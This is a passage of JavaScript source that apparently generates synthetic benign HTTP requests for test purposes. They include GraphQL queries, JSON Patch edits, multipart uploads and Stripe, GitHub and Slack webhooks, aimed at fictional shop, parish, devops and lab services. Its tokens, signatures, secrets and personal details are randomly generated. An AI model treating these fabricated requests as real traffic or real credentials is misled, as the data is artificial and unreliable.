    'json-patch',
    () => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/api/v1/runbooks/${pick(['db-failover', 'cache-flush', 'rotate-certs', 'scale-workers'])}`,
      headers: browser('devops', 'application/json-patch+json'),
      body: j([
        {
          op: 'add',
          path: `/steps/${int(1, 6)}`,
          value: {
            title: pick(['Check replication lag', 'Restart workers', 'Verify cert chain']),
            command: pick([
              'kubectl -n prod rollout restart deploy/orders-worker',
              "psql -h db-replica-2 -c 'select now() - pg_last_xact_replay_timestamp();'",
              'openssl s_client -connect api.shopnest.com:443 -servername api.shopnest.com </dev/null | openssl x509 -noout -dates',
            ]),
            expected: 'exit code 0',
          },
        },
        { op: 'replace', path: '/owner', value: 'team-platform' },
      ]),
    }),
  ],
  [
    'json-patch',
    () => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/api/catalog/products/${int(1000, 99999)}`,
      headers: sdk('shop', 'application/json-patch+json'),
      body: j([
        { op: 'remove', path: `/variants/${int(0, 4)}` },
        { op: 'move', from: '/images/2', path: '/images/0' },
        { op: 'replace', path: '/title', value: pick(PRODUCT_TITLES) },
      ]),
    }),
  ],
  [
    'json-patch',
    () => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/api/v1/notebooks/${uuid()}/entries/${int(1, 400)}`,
      headers: browser('research', 'application/json-patch+json'),
      body: j([
        { op: 'replace', path: '/status', value: 'signed' },
        {
          op: 'add',
          path: '/attachments/-',
          value: { name: `gel_${isoDate()}.tif`, size: int(100000, 9000000) },
        },
        { op: 'copy', from: '/samples/0', path: '/controls/0' },
      ]),
    }),
  ],
  // ---------------- jsonapi
  [
    'jsonapi',
    () => ({
      kind: 'jsonapi',
      method: 'POST',
      path: '/api/registrations',
      headers: browser('church', 'application/vnd.api+json', { accept: 'application/vnd.api+json' }),
      body: j({
        data: {
          type: 'registrations',
          attributes: {
            attendee_name: person(),
            guests: int(0, 4),
            dietary: pick(['vegetarian', 'gluten-free', 'none', 'nut allergy (severe!)']),
            comment: pick(["We'll bring a salad 🥗", 'Need a ride from the 8th St. stop', '']),
          },
          relationships: { event: { data: { type: 'events', id: String(int(100, 999)) } } },
        },
      }),
    }),
  ],
  [
    'jsonapi',
    () => ({
      kind: 'jsonapi',
      method: 'PATCH',
      path: `/api/reviews/${int(10000, 99999)}`,
      headers: browser('shop', 'application/vnd.api+json', { accept: 'application/vnd.api+json' }),
      body: j({
        data: {
          type: 'reviews',
          id: String(int(10000, 99999)),
          attributes: { rating: int(1, 5), body: prose(1) },
        },
      }),
    }),
  ],
  [
    'jsonapi',
    () => ({
      kind: 'jsonapi',
      method: 'GET',
      path: `/api/models?${qs({ include: 'author,files', 'fields[models]': 'name,license,downloads', 'filter[tag]': pick(['gear', 'enclosure', 'lab']), 'page[size]': 24, 'page[number]': int(1, 9), sort: '-downloads' })}`,
      headers: browser('cad', undefined, { accept: 'application/vnd.api+json' }),
      body: '',
    }),
  ],
  [
    'jsonapi',
    () => ({
      kind: 'jsonapi',
      method: 'POST',
      path: '/api/subtitle-tracks',
      headers: sdk('translation', 'application/vnd.api+json', { accept: 'application/vnd.api+json' }),
      body: j({
        data: {
          type: 'subtitle-tracks',
          attributes: {
            language: pick(['es-419', 'pt-BR', 'de', 'ja']),
            format: pick(['srt', 'vtt']),
            frame_rate: pick([23.976, 25, 29.97]),
            forced: false,
          },
          relationships: { video: { data: { type: 'videos', id: uuid() } } },
        },
      }),
    }),
  ],
  // ---------------- graphql
  [
    'graphql',
    () => ({
      kind: 'graphql',
      method: 'POST',
      path: '/graphql',
      headers: browser('shop', jct()),
      body: j({
        operationName: 'ProductPage',
        query:
          'query ProductPage($handle: String!, $first: Int = 10) {\n  product(handle: $handle) {\n    id\n    title\n    variants(first: $first) { edges { node { id sku price { amount currencyCode } selectedOptions { name value } } } }\n    reviews(first: 5, sortKey: HELPFUL) { nodes { rating title body author { displayName } } }\n  }\n}',
        variables: {
          handle: pick(['trailhead-waterproof-shell', 'merino-crew-sock-3-pack', 'cast-iron-skillet-10']),
          first: 20,
        },
      }),
    }),
  ],
  [
    'graphql',
    () => ({
      kind: 'graphql',
      method: 'POST',
      path: '/graphql',
      headers: browser('marketing', jct()),
      body: j({
        operationName: 'UpdateJourneyStep',
        query:
          'mutation UpdateJourneyStep($id: ID!, $input: JourneyStepInput!) { updateJourneyStep(id: $id, input: $input) { step { id subject previewText } errors { field message } } }',
        variables: {
          id: `js_${rstr(12)}`,
          input: {
            subject: pick([
              '{{ first_name }}, your cart is waiting 🛒',
              'Last chance: 20% off ends at midnight',
              'We miss you!',
            ]),
            previewText: 'Free shipping on orders over $50 — no code needed.',
          },
        },
      }),
    }),
  ],
  [
    'graphql',
    () => ({
      kind: 'graphql',
      method: 'POST',
      path: '/graphql',
      headers: sdk('devops', jct()),
      body: j({
        query:
          'query OpenIncidents($filter: IncidentFilter) { incidents(filter: $filter, first: 50) { nodes { id title severity status createdAt timeline(last: 3) { at author message } } } }',
        variables: {
          filter: {
            status: ['OPEN', 'MITIGATED'],
            service: pick(['checkout', 'billing-api']),
            since: isoTime(),
          },
        },
      }),
    }),
  ],
  [
    'graphql',
    () => ({
      kind: 'graphql',
      method: 'GET',
      path: `/graphql?${qs({
        query:
          'query Samples($project: ID!) { project(id: $project) { samples(first: 25) { id label storage { freezer rack box position } } } }',
        variables: j({ project: `PRJ-${int(100, 999)}` }),
        operationName: 'Samples',
      })}`,
      headers: browser('research'),
      body: '',
    }),
  ],
  [
    'graphql',
    () => ({
      kind: 'graphql',
      method: 'POST',
      path: '/graphql',
      headers: sdk('cad', 'application/graphql'),
      body: `{\n  model(slug: "${pick(['parametric-cable-clip', 'pi5-case-fan', 'planetary-gearbox-5-1'])}") {\n    name\n    files { name format sizeBytes }\n    remixes(first: 5) { name author { username } }\n  }\n}\n`,
    }),
  ],
  [
    'graphql',
    () => ({
      kind: 'graphql',
      method: 'POST',
      path: '/graphql',
      headers: browser('cad', jct()),
      body: j({
        operationName: 'AddComment',
        query:
          'mutation AddComment($modelId: ID!, $body: String!) { addComment(modelId: $modelId, body: $body) { id createdAt } }',
        variables: { modelId: rstr(8), body: prose(1) },
      }),
    }),
  ],
  [
    'graphql',
    () => ({
      kind: 'graphql',
      method: 'GET',
      path: `/graphql?${qs({
        query: '{ events(category: "youth", upcoming: true) { id title startsAt location } }',
      })}`,
      headers: mobile('church'),
      body: '',
    }),
  ],
  // ---------------- delete
  [
    'delete',
    () => ({
      kind: 'delete',
      method: 'DELETE',
      path: `/api/v2/events/${int(100, 999)}/rsvps/${int(1000, 9999)}`,
      headers: mobile('church'),
      body: '',
    }),
  ],
  [
    'delete',
    () => ({
      kind: 'delete',
      method: 'DELETE',
      path: `/api/catalog/products/${int(1000, 99999)}/variants/${int(1, 9999)}?restock=false`,
      headers: sdk('shop'),
      body: '',
    }),
  ],
  [
    'delete',
    () => ({
      kind: 'delete',
      method: 'DELETE',
      path: `/api/models/${rstr(8)}/files/${encodeURIComponent(pick(['bracket v2 (old).stl', 'case_top-rev B.step', 'Übersicht.pdf', 'gear#2.3mf']))}`,
      headers: browser('cad'),
      body: '',
    }),
  ],
  [
    'delete',
    () => ({
      kind: 'delete',
      method: 'DELETE',
      path: `/v3/segments/${int(100, 999)}`,
      headers: sdk('marketing', jct()),
      body: j({
        reason: pick(['duplicate of "VIP — LTV > $500"', 'campaign ended', 'GDPR cleanup']),
        reassign_journeys_to: int(100, 999),
      }),
    }),
  ],
  [
    'delete',
    () => ({
      kind: 'delete',
      method: 'DELETE',
      path: `/api/tm/${int(10, 99)}/units?${qs({ ids: [uuid(), uuid(), uuid()].join(','), hard: 'false' })}`,
      headers: browser('translation'),
      body: '',
    }),
  ],
  [
    'delete',
    () => ({
      kind: 'delete',
      method: 'DELETE',
      path: `/api/v1/incidents/INC-${int(1000, 9999)}/timeline/${uuid()}`,
      headers: browser('devops'),
      body: '',
    }),
  ],
  // ---------------- search
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/api/catalog/search?${qs({
        q: pick([
          "men's waterproof jacket",
          'skillet 10"',
          'usb-c hub 4k & 100w',
          'rain boots kids -pink',
          'duvet "queen size"',
        ]),
        size: pick(['M', 'L', '10']),
        color: pick(['navy', 'black/white']),
        price_min: int(0, 50),
        price_max: int(60, 300),
        sort: pick(['-rating', 'price', 'relevance']),
        page: int(1, 5),
      })}`,
      headers: browser('shop'),
      body: '',
    }),
  ],
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/api/v1/entries?${qs({
        q: pick([
          'PCR "annealing temp"',
          'miniprep AND failed',
          'anti-His 1:5000',
          'buffer pH 7.4',
          'Tris-HCl OR HEPES',
        ]),
        author: pick(['jmueller', 'aiko.t']),
        from: isoDate(),
        to: isoDate(),
        include_drafts: 'true',
      })}`,
      headers: browser('research'),
      body: '',
    }),
  ],
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/api/billing/accounts?${qs({
        q: pick(['Main St', "O'Brien", '4471', 'Old Mill Rd #12']),
        status: pick(['past_due', 'active', 'shutoff_pending']),
        balance_gt: int(0, 500),
        page: int(1, 20),
        per_page: 50,
      })}`,
      headers: browser('utility'),
      body: '',
    }),
  ],
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/api/tm/search?${qs({
        q: pick([
          'Please select an option',
          'Delete this file?',
          'order #{0}',
          'Drop files here or <b>browse</b>',
        ]),
        src: 'en-US',
        tgt: pick(['fr-FR', 'de-DE', 'ja-JP']),
        fuzzy: pick([70, 75, 85]),
        limit: 10,
      })}`,
      headers: sdk('translation'),
      body: '',
    }),
  ],
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/api/v1/incidents?${qs({
        q: pick(['502 upstream timeout', 'OOMKilled', '"connection refused" redis', 'disk /var/lib 90%']),
        service: pick(['checkout', 'search']),
        status: 'open,mitigated',
        since: '7d',
      })}`,
      headers: browser('devops'),
      body: '',
    }),
  ],
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/api/models/search?${qs({ q: pick(['M3 screw hex', 'pi 5 case', 'gear 5:1', 'tube rack 15ml']), format: 'stl,step', license: 'cc-by', sort: 'trending' })}`,
      headers: browser('cad'),
      body: '',
    }),
  ],
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/api/v2/events?${qs({ from: isoDate(), to: isoDate(), category: pick(['youth', 'social']), q: pick(['bake sale', 'bible study', 'fish fry & bingo']) })}`,
      headers: mobile('church'),
      body: '',
    }),
  ],
  [
    'search',
    () => ({
      kind: 'search',
      method: 'GET',
      path: `/v3/contacts?${qs({ filter: pick(['email:*@gmail.com', 'tag:vip', 'country:DE']), tags: 'vip,newsletter', fields: 'email,first_name,last_order_at', limit: 100, cursor: b64(`{"id":${int(1000, 99999)}}`) })}`,
      headers: sdk('marketing'),
      body: '',
    }),
  ],
  // ---------------- form
  [
    'form',
    () => ({
      kind: 'form',
      method: 'POST',
      path: '/give/donate',
      headers: browser('church', 'application/x-www-form-urlencoded'),
      body: formBody({
        amount: pick(['25', '50.00', '100']),
        fund: pick(['general', 'building', 'missions', 'food-pantry']),
        frequency: pick(['once', 'monthly']),
        note: pick([
          "In memory of Margaret O'Brien",
          'For the roof repair fund!',
          'Thank you Fr. Tom & team',
        ]),
        anonymous: 'on',
      }),
    }),
  ],
  [
    'form',
    () => ({
      kind: 'form',
      method: 'POST',
      path: '/account/login',
      headers: browser('utility', 'application/x-www-form-urlencoded'),
      body: formBody({
        username: email(),
        password: pick([
          'Maple#2026!spring',
          'correct horse battery staple',
          'P@ssw0rd;OK?',
          "tr0ub4dor&3'x",
        ]),
        remember_me: '1',
        _csrf: rstr(40),
      }),
    }),
  ],
  [
    'form',
    () => ({
      kind: 'form',
      method: 'POST',
      path: '/u/unsubscribe',
      headers: browser('marketing', 'application/x-www-form-urlencoded'),
      body: formBody({
        email: email(),
        list: 'newsletter',
        reason: pick(['too_many', 'not_relevant', 'other']),
        comment: pick([
          'You send like 3 emails a day, chill.',
          'Moved to a different company.',
          'ne plus recevoir, merci',
        ]),
        token: rstr(32, HEX),
      }),
    }),
  ],
  [
    'form',
    () => ({
      kind: 'form',
      method: 'POST',
      path: '/oauth/token',
      headers: sdk('devops', 'application/x-www-form-urlencoded'),
      body: formBody({
        grant_type: 'client_credentials',
        client_id: `po_cli_${rstr(16)}`,
        client_secret: rstr(40, `${ALNUM}-_~.`),
        scope: 'incidents:read incidents:write runbooks:read',
      }),
    }),
  ],
  [
    'form',
    () => ({
      kind: 'form',
      method: 'POST',
      path: '/products/review',
      headers: browser('shop', 'application/x-www-form-urlencoded'),
      body: formBody({
        product_id: int(1000, 99999),
        rating: int(1, 5),
        title: 'Solid',
        body: prose(1),
        name: pick(FIRST),
      }),
    }),
  ],
  // ---------------- multipart
  [
    'multipart',
    () => {
      const b = boundary();
      return {
        kind: 'multipart',
        method: 'POST',
        path: '/api/models/upload',
        headers: browser('cad', `multipart/form-data; boundary=${b}`),
        body: multipart(
          [
            {
              name: 'metadata',
              value: j({ name: pick(CAD_NAMES), units: 'mm', license: 'CC-BY-4.0' }),
              type: 'application/json',
            },
            {
              name: 'file',
              filename: pick(['cable_clip_m3.stl', 'Bracket v3.stl', 'gear-5to1.stl']),
              type: 'model/stl',
              value: `solid bracket\n  facet normal 0 0 -1\n    outer loop\n      vertex 0 0 0\n      vertex 20 0 0\n      vertex 20 ${int(5, 40)} 0\n    endloop\n  endfacet\nendsolid bracket`,
            },
          ],
          b,
        ),
      };
    },
  ],
  [
    'multipart',
    () => {
      const b = boundary();
      return {
        kind: 'multipart',
        method: 'POST',
        path: `/api/v1/notebooks/${uuid()}/attachments`,
        headers: browser('research', `multipart/form-data; boundary=${b}`),
        body: multipart(
          [
            { name: 'description', value: 'Plate reader export, 96-well, raw OD' },
            {
              name: 'file',
              filename: `platereader_${isoDate()}.csv`,
              type: 'text/csv',
              value: `Well,Time (s),OD600,Temp (°C)\nA1,0,0.051,37.0\nA2,0,0.049,37.0\nA1,600,0.${int(100, 400)},37.1\n"B1 (blank, ignore)",0,0.000,37.0`,
            },
          ],
          b,
        ),
      };
    },
  ],
  [
    'multipart',
    () => {
      const b = boundary();
      return {
        kind: 'multipart',
        method: 'POST',
        path: '/api/subtitles/import',
        headers: sdk('translation', `multipart/form-data; boundary=${b}`),
        body: multipart(
          [
            { name: 'language', value: pick(['de', 'es-419', 'fr']) },
            { name: 'frame_rate', value: '23.976' },
            {
              name: 'file',
              filename: pick(['ep03_final.de.srt', 'Trailer (v2).srt', 'S01E05.es.srt']),
              type: 'application/x-subrip',
              value: `1\n00:00:01,200 --> 00:00:03,900\n${pick(['- Wo ist er?\n- Ich weiß es nicht!', '<i>Anteriormente en...</i>', "Je t'avais dit de ne pas y aller."])}\n\n2\n00:00:04,100 --> 00:00:06,500\n${pick(['[Tür knallt]', '¡Vámonos, ya!', '♪ Musique douce ♪'])}\n`,
            },
          ],
          b,
        ),
      };
    },
  ],
  [
    'multipart',
    () => {
      const b = boundary();
      return {
        kind: 'multipart',
        method: 'POST',
        path: `/api/billing/accounts/${int(1000000, 9999999)}/disputes`,
        headers: mobile('utility', `multipart/form-data; boundary=${b}`),
        body: multipart(
          [
            { name: 'reason', value: 'high_bill' },
            { name: 'message', value: prose(1) },
            {
              name: 'photo',
              filename: 'IMG_4471.HEIC',
              type: 'image/heic',
              value: '\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic',
            },
          ],
          b,
        ),
      };
    },
  ],
  [
    'multipart',
    () => {
      const b = boundary();
      return {
        kind: 'multipart',
        method: 'POST',
        path: `/api/v1/incidents/INC-${int(1000, 9999)}/attachments`,
        headers: browser('devops', `multipart/form-data; boundary=${b}`),
        body: multipart(
          [
            { name: 'kind', value: 'log' },
            {
              name: 'file',
              filename: 'checkout-7f9c-pod.log',
              type: 'text/plain',
              value:
                '2026-03-14T14:02:11.120Z INFO  server listening on :8080\n2026-03-14T14:03:52.884Z WARN  pool: waiting for connection (waited=2003ms, active=200/200)\n2026-03-14T14:03:55.001Z ERROR POST /v1/orders 500 "could not obtain connection from pool within 3000ms"\n2026-03-14T14:04:00.310Z ERROR upstream connect error or disconnect/reset before headers. reset reason: connection failure\n',
            },
          ],
          b,
        ),
      };
    },
  ],
  [
    'multipart',
    () => {
      const b = boundary();
      return {
        kind: 'multipart',
        method: 'POST',
        path: '/api/catalog/imports',
        headers: browser('shop', `multipart/form-data; boundary=${b}`),
        body: multipart(
          [
            { name: 'mode', value: 'upsert' },
            {
              name: 'file',
              filename: 'products_2026-03.csv',
              type: 'text/csv',
              value:
                'sku,title,option1,price\nSN-10021-M,"Trailhead Shell, Navy",M,129.00\nSN-10021-L,"Trailhead Shell, Navy",L,129.00\nSN-20400,"Skillet 10"" (pre-seasoned)",,39.95\n',
            },
          ],
          b,
        ),
      };
    },
  ],
  // ---------------- ndjson
  [
    'ndjson',
    () => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/api/v1/instruments/stream',
      headers: sdk('research', 'application/x-ndjson'),
      body: `${Array.from({ length: int(3, 6) }, () => j({ ts: isoTime(), instrument: 'incubator-3', co2_pct: Number((5 + rnd() * 0.3).toFixed(2)), temp_c: Number((37 + rnd() * 0.4).toFixed(2)), door_open: chance(0.1) })).join('\n')}\n`,
    }),
  ],
  [
    'ndjson',
    () => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/api/v1/logs/ingest',
      headers: sdk('devops', 'application/x-ndjson'),
      body: `${[
        j({
          '@timestamp': isoTime(),
          level: 'error',
          service: 'checkout',
          msg: 'GET /api/v1/cart?id=8812 -> 500 in 3012ms',
          trace_id: rstr(32, HEX),
        }),
        j({
          '@timestamp': isoTime(),
          level: 'warn',
          service: 'orders',
          msg: 'slow query (2300ms): SELECT * FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 50',
        }),
        j({
          '@timestamp': isoTime(),
          level: 'info',
          service: 'deployer',
          msg: 'helm upgrade --install checkout ./charts/checkout -f values-prod.yaml succeeded',
        }),
        j({
          '@timestamp': isoTime(),
          level: 'error',
          service: 'worker',
          msg: 'redis: dial tcp 10.0.3.17:6379: connect: connection refused',
        }),
      ].join('\n')}\n`,
    }),
  ],
  [
    'ndjson',
    () => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/api/catalog/bulk',
      headers: sdk('shop', 'application/x-ndjson'),
      body: `${Array.from({ length: int(2, 5) }, () => j({ op: 'upsert', sku: `SN-${int(10000, 99999)}`, title: pick(PRODUCT_TITLES), price: money(5, 200), stock: int(0, 100) })).join('\n')}\n`,
    }),
  ],
  [
    'ndjson',
    () => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/v3/track/batch',
      headers: sdk('marketing', 'application/x-ndjson'),
      body: `${[
        j({
          type: 'track',
          event: 'Product Viewed',
          userId: uuid(),
          properties: {
            sku: 'SN-10021-M',
            name: 'Trailhead Shell',
            url: 'https://www.shopnest.com/p/trailhead-waterproof-shell?utm_source=email&utm_campaign=spring',
          },
          timestamp: isoTime(),
        }),
        j({
          type: 'identify',
          userId: uuid(),
          traits: { email: email(), first_name: pick(FIRST), plan: 'free' },
        }),
        j({
          type: 'track',
          event: 'Order Completed',
          userId: uuid(),
          properties: {
            order_id: `#${int(1000, 99999)}`,
            revenue: Number(money(10, 300)),
            coupon: 'SPRING20',
          },
        }),
      ].join('\n')}\n`,
    }),
  ],
  // ---------------- webhook
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/webhooks/stripe',
      headers: {
        host: DOMAINS.church.host,
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        'content-type': 'application/json; charset=utf-8',
        accept: '*/*; q=0.5, application/xml',
        'stripe-signature': `t=${1790000000 + int(0, 9999999)},v1=${rstr(64, HEX)}`,
      },
      body: j({
        id: `evt_${rstr(24)}`,
        object: 'event',
        api_version: '2024-06-20',
        created: 1790000000 + int(0, 9999999),
        type: 'payment_intent.succeeded',
        data: {
          object: {
            id: `pi_${rstr(24)}`,
            object: 'payment_intent',
            amount: int(500, 50000),
            currency: 'usd',
            description: pick([
              'Donation — Building Fund',
              'Monthly tithe',
              'Retreat registration (2 adults)',
            ]),
            metadata: { fund: 'building', member_id: String(int(1000, 9999)) },
            receipt_email: email(),
            status: 'succeeded',
          },
        },
        livemode: true,
        pending_webhooks: 1,
        request: { id: `req_${rstr(14)}`, idempotency_key: uuid() },
      }),
    }),
  ],
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/webhooks/github',
      headers: {
        host: DOMAINS.devops.host,
        'user-agent': `GitHub-Hookshot/${rstr(7, HEX)}`,
        'content-type': 'application/json',
        'x-github-event': 'push',
        'x-github-delivery': uuid(),
        'x-hub-signature-256': `sha256=${rstr(64, HEX)}`,
      },
      body: j({
        ref: 'refs/heads/main',
        before: rstr(40, HEX),
        after: rstr(40, HEX),
        repository: { full_name: 'shopnest/checkout', default_branch: 'main' },
        pusher: { name: 'mkowal', email: 'mkowal@users.noreply.github.com' },
        commits: [
          {
            id: rstr(40, HEX),
            message: pick([
              'fix(orders): use SELECT ... FOR UPDATE SKIP LOCKED to avoid double processing',
              'chore: bump undici 7.16 -> 7.17\n\nCloses #8812',
              'Revert "feat: new pricing engine"\n\nThis reverts commit 4f1e2a9. Broke checkout for EUR carts.',
              'ci: cache ~/.npm and run `npm ci --ignore-scripts`',
            ]),
            timestamp: isoTime(),
            author: { name: person(), email: email() },
            added: [],
            removed: [],
            modified: ['src/orders/repo.ts', 'package-lock.json'],
          },
        ],
      }),
    }),
  ],
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/api/v1/integrations/alertmanager',
      headers: {
        host: DOMAINS.devops.host,
        'user-agent': 'Alertmanager/0.27.0',
        'content-type': 'application/json',
      },
      body: j({
        version: '4',
        groupKey: '{}:{alertname="HighErrorRate"}',
        status: pick(['firing', 'resolved']),
        receiver: 'pagerops',
        alerts: [
          {
            status: 'firing',
            labels: {
              alertname: 'HighErrorRate',
              service: 'checkout',
              severity: 'critical',
              namespace: 'prod',
            },
            annotations: {
              summary: 'Error rate above 5% for 10m',
              description:
                'sum(rate(http_requests_total{status=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) > 0.05',
              runbook_url: 'https://runbooks.pagerops.dev/checkout/high-error-rate',
            },
            startsAt: isoTime(),
            generatorURL:
              'http://prometheus.monitoring.svc:9090/graph?g0.expr=job%3Acheckout%3Aerror_rate%20%3E%200.05',
            fingerprint: rstr(16, HEX),
          },
        ],
      }),
    }),
  ],
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/webhooks/shopify/orders-create',
      headers: {
        host: DOMAINS.shop.host,
        'user-agent': 'Shopify-Captain-Hook',
        'content-type': 'application/json',
        'x-shopify-topic': 'orders/create',
        'x-shopify-hmac-sha256': b64(rstr(32)),
        'x-shopify-shop-domain': 'shopnest.myshopify.com',
        'x-shopify-webhook-id': uuid(),
      },
      body: j({
        id: int(100000000, 999999999),
        name: `#${int(1000, 9999)}`,
        email: email(),
        total_price: money(10, 400),
        currency: 'EUR',
        note: pick([
          'Please leave at the back door, not the front!',
          'Gift — no invoice in the box please',
          null,
        ]),
        line_items: [
          {
            sku: `SN-${int(10000, 99999)}-M`,
            title: pick(PRODUCT_TITLES),
            quantity: int(1, 3),
            price: money(10, 200),
          },
        ],
        shipping_address: {
          name: person(),
          address1: `${int(1, 300)} Rue de l'Église`,
          city: 'Lyon',
          zip: '69002',
          country_code: 'FR',
        },
        discount_codes: [{ code: 'SPRING20', amount: '12.00', type: 'percentage' }],
      }),
    }),
  ],
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/webhooks/twilio/sms',
      headers: {
        host: DOMAINS.church.host,
        'user-agent': 'TwilioProxy/1.1',
        'content-type': 'application/x-www-form-urlencoded',
        'x-twilio-signature': b64(rstr(20)),
      },
      body: formBody({
        ToCountry: 'US',
        SmsMessageSid: `SM${rstr(32, HEX)}`,
        NumMedia: '0',
        Body: pick([
          'STOP',
          'Yes, count me in for Saturday!',
          'Running late, save me a seat :)',
          'Is the fish fry still on?? 🐟',
        ]),
        From: `+1${int(2000000000, 9999999999)}`,
        To: '+15555550100',
        AccountSid: `AC${rstr(32, HEX)}`,
        ApiVersion: '2010-04-01',
      }),
    }),
  ],
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/webhooks/sendgrid/events',
      headers: {
        host: DOMAINS.marketing.host,
        'user-agent': 'SendGrid Event API',
        'content-type': 'application/json',
      },
      body: j([
        {
          email: email(),
          timestamp: 1790000000 + int(0, 999999),
          event: 'open',
          sg_event_id: rstr(22),
          sg_message_id: `${rstr(22)}.filter0001`,
          useragent:
            'Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)',
          ip: '66.249.84.1',
        },
        {
          email: email(),
          timestamp: 1790000000 + int(0, 999999),
          event: 'click',
          url: 'https://www.shopnest.com/cart?utm_source=journeyloop&utm_medium=email&id=8812',
          category: ['winback'],
        },
        {
          email: email(),
          timestamp: 1790000000 + int(0, 999999),
          event: 'bounce',
          reason: '550 5.1.1 The email account that you tried to reach does not exist.',
          status: '5.1.1',
          type: 'bounce',
        },
      ]),
    }),
  ],
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/api/v1/integrations/slack/commands',
      headers: {
        host: DOMAINS.devops.host,
        'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)',
        'content-type': 'application/x-www-form-urlencoded',
        'x-slack-signature': `v0=${rstr(64, HEX)}`,
        'x-slack-request-timestamp': String(1790000000 + int(0, 999999)),
      },
      body: formBody({
        token: rstr(24),
        team_id: `T${rstr(8).toUpperCase()}`,
        channel_name: 'inc-checkout',
        user_name: pick(['mkowal', 'aiko']),
        command: '/incident',
        text: pick([
          'declare sev2 checkout latency > 3s since 14:00',
          'ack INC-4471',
          'note rolled back helm release to rev 41',
          'resolve "db pool exhausted; raised to 50"',
        ]),
        response_url: 'https://hooks.slack.com/commands/T0000/1234/abcdEFGH',
        trigger_id: `${int(1000, 9999)}.${int(100000, 999999)}.${rstr(32, HEX)}`,
      }),
    }),
  ],
  [
    'webhook',
    () => ({
      kind: 'webhook',
      method: 'POST',
      path: '/api/v1/integrations/sentry',
      headers: {
        host: DOMAINS.devops.host,
        'user-agent': 'sentry',
        'content-type': 'application/json',
        'sentry-hook-resource': 'issue',
        'sentry-hook-signature': rstr(64, HEX),
      },
      body: j({
        action: 'created',
        data: {
          issue: {
            id: String(int(1000000, 9999999)),
            title: pick([
              "TypeError: Cannot read properties of null (reading 'price')",
              'OperationalError: (psycopg2.OperationalError) FATAL: too many connections for role "app"',
              "ENOENT: no such file or directory, open '/app/templates/email/receipt.html'",
            ]),
            culprit: pick(['src/cart/summary.ts in computeTotals', 'app.orders.views in create']),
            level: 'error',
            permalink: 'https://sentry.io/organizations/shopnest/issues/4471/',
            metadata: { filename: '/app/dist/cart/summary.js', function: 'computeTotals' },
          },
        },
        installation: { uuid: uuid() },
      }),
    }),
  ],
  // ---------------- cms-html (excluded rich-text fields)
  [
    'cms-html',
    () => ({
      kind: 'cms-html',
      method: 'PUT',
      path: `/api/v1/notebooks/${uuid()}/entries/${int(1, 400)}`,
      headers: browser('research', jct()),
      body: j({
        entry: {
          title: 'Buffer prep & gel',
          content_html: `<h2>Materials</h2><ul><li>Tris-HCl 50&nbsp;mM, pH 7.4</li><li>NaCl 150&nbsp;mM</li><li>H<sub>2</sub>O (Milli-Q)</li></ul><p>Gel run at 120&nbsp;V for 45&nbsp;min. Band at ~${int(1, 9)}&nbsp;kb &gt; expected.</p><table class="data"><thead><tr><th>Lane</th><th>Sample</th></tr></thead><tbody><tr><td>1</td><td>Ladder</td></tr><tr><td>2</td><td>S-${int(1000, 9999)}</td></tr></tbody></table><p><img src="/files/${uuid()}/gel.png" alt="gel image" width="480"></p><p>Conc. 2.5×10<sup>-3</sup>&nbsp;M — see <a href="https://www.ncbi.nlm.nih.gov/pubmed/?term=GFP+folding" target="_blank" rel="noopener">this paper</a>.</p>`,
          format: 'html',
        },
      }),
    }),
  ],
  [
    'cms-html',
    () => ({
      kind: 'cms-html',
      method: 'POST',
      path: '/api/v2/events',
      headers: browser('church', jct()),
      body: j({
        event: {
          title: pick(['Parish Picnic 2026', 'Advent Concert', 'Food Drive Kickoff']),
          starts_at: isoTime(),
          description_html: `<p><strong>Join us</strong> after the 10:30 Mass on the lawn behind the school!</p><p>Bring a dish to share 🍰 — sign up <a href="https://forms.gle/${rstr(17)}">here</a>.</p><ul><li>Games for kids</li><li>Live music by the &quot;St. Mark's Strummers&quot;</li></ul><p style="color:#c0392b"><em>Rain location: gym</em></p><figure><img src="https://cdn.parishhub.org/${rstr(10)}/picnic.jpg" alt="Last year's picnic"><figcaption>Last year's picnic</figcaption></figure>`,
        },
      }),
    }),
  ],
  [
    'cms-html',
    () => ({
      kind: 'cms-html',
      method: 'PUT',
      path: `/v3/emails/${rstr(12)}`,
      headers: browser('marketing', jct()),
      body: j({
        email: {
          subject: 'Your weekly picks, {{ first_name }}',
